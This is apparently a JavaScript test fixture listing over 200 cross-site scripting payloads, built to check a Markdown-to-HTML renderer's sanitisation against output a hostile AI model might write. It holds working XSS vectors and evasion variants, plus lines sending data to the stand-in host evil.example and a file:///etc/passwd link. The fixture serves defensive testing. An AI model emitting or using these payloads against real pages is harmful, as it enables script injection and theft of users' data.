// What a hostile model could write: texts that become harmful in pages that make HTML of
// them, each of them complete, and what surrounds them in Markdown.

const CALL = "globalThis.executed=(globalThis.executed||0)+1";
const HOST = "http://evil.example";

const HTML = [
	`<script>${CALL}</script>`,
	`<script src="${HOST}/x.js"></script>`,
	`<img src=x onerror="${CALL}">`,
	`<img src="${HOST}/leak?d=secret">`,
	`<svg onload="${CALL}"></svg>`,
	`<svg><script>${CALL}</script></svg>`,
	`<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"></use></svg>`,
	`<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
	`<iframe src="javascript:${CALL}"></iframe>`,
	`<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
	`<object data="javascript:${CALL}"></object>`,
	`<embed src="javascript:${CALL}">`,
	`<form action="${HOST}/steal"><input name=a autofocus><button>ok</button></form>`,
	`<form><button formaction="javascript:${CALL}">x</button></form>`,
	`<input autofocus onfocus="${CALL}">`,
	`<select autofocus onfocus="${CALL}"></select>`,
	`<textarea autofocus onfocus="${CALL}"></textarea>`,
	`<video src=x onerror="${CALL}"></video>`,
	`<video><source onerror="${CALL}"></video>`,
	`<audio src=x onerror="${CALL}"></audio>`,
	`<details open ontoggle="${CALL}"><summary>x</summary></details>`,
	`<body onload="${CALL}">`,
	`<marquee onstart="${CALL}">x</marquee>`,
	`<base href="${HOST}/">`,
	`<meta http-equiv="refresh" content="0;url=${HOST}/">`,
	`<link rel="stylesheet" href="${HOST}/x.css">`,
	`<link rel="prefetch" href="${HOST}/x">`,
	`<style>@import "${HOST}/x.css"; body{background:url(${HOST}/x.png)}</style>`,
	`<div style="background:url(${HOST}/x.png)">x</div>`,
	`<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>`,
	`<a href="javascript:${CALL}">x</a>`,
	`<a href="data:text/html,<script>${CALL}</script>">x</a>`,
	`<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
	`<template><script>${CALL}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
	`<!--><script>${CALL}</script-->`,
	`<![CDATA[<script>${CALL}</script>]]>`,
	`<scr<script>ipt>${CALL}</scr</script>ipt>`,
	`<IMG SRC=x OnErRoR="${CALL}">`,
	`<img/src=x/onerror=${CALL}>`,
	`<img src="x\`><script>${CALL}</script>">`,
	`</textarea><script>${CALL}</script>`,
	`</title><script>${CALL}</script>`,
	`</code></pre><script>${CALL}</script>`,
	`&lt;script&gt;${CALL}&lt;/script&gt;`,
	`&#60;img src=x onerror=${CALL}&#62;`,
	`\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
	`<x id=__proto__ name=__proto__>`,
	`<form id=location><input name=href></form>`,
	`<a id=token><a id=token name=value href="${HOST}">x</a>`,
	`{{constructor.constructor('${CALL}')()}}`,
	`\${${CALL}}`,
];

const URLS = [
	`javascript:${CALL}`,
	`JaVaScRiPt:${CALL}`,
	` javascript:${CALL}`,
	`java\tscript:${CALL}`,
	`java&#10;script:${CALL}`,
	`javascript&colon;${CALL}`,
	`\u0001javascript:${CALL}`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>${CALL}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`blob:${HOST}/x`,
	`file:///etc/passwd`,
	`//evil.example/x`,
	`/monitoring/export`,
	`../app/`,
	`#token=stolen`,
	`https://user:pass@evil.example`,
	`https://evil.example/"onmouseover="${CALL}`,
	`https://evil.example/'><script>${CALL}</script>`,
	`mailto:x@evil.example?subject=${CALL}`,
];

const fromUrl = (url) => [`[click](${url})`, `![see](${url})`, `[a](<${url}>)`, `<${url}>`, `[x]: ${url}\n\n[x]`];

const around = [
	(text) => text,
	(text) => `- item ${text}`,
	(text) => `| a | b |\n|---|---|\n| ${text} | x |`,
];

/** At least 200 texts. */
export const PAYLOADS = [
	...HTML.flatMap((text) => around.map((wrap) => wrap(text))),
	...HTML.slice(0, 12).map((text) => `\`\`\`html\n${text}\n\`\`\``),
	...HTML.slice(0, 12).map((text) => `**${text}** _${text}_`),
	...URLS.flatMap(fromUrl),
];

export { HOST };
